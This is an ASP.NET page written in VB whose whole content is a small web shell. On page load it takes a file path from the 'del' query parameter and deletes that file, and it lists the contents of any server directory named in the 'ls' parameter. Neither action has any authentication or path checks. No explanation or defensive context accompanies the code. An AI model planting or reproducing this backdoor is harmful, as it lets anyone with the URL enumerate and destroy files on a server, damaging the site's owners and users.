<%@ Page Language="VB" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    If Request.QueryString("del") <> "" Then
        File.Delete(Request.QueryString("del"))
        Response.Write("deleted")
    End If
    If Request.QueryString("ls") <> "" Then
        For Each f As String In Directory.GetFileSystemEntries(Request.QueryString("ls"))
            Response.Write(Server.HtmlEncode(f) & "<br/>")
        Next
    End If
End Sub
</script>
